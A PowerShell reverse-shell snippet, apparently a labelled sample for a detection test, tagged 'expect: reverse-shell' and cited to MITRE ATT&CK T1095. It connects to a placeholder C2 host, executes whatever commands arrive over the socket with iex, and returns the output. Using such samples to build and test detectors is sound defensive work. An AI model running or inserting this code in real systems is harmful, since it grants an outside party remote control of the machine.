# expect: reverse-shell | source: MITRE ATT&CK T1095
$c = New-Object System.Net.Sockets.TCPClient('c2.example.invalid', 443)
$s = $c.GetStream()
[byte[]]$b = 0..65535 | ForEach-Object { 0 }
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
    $d = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i)
    $r = iex $d 2>&1 | Out-String
    $o = ([Text.Encoding]::ASCII).GetBytes($r)
    $s.Write($o, 0, $o.Length)
}
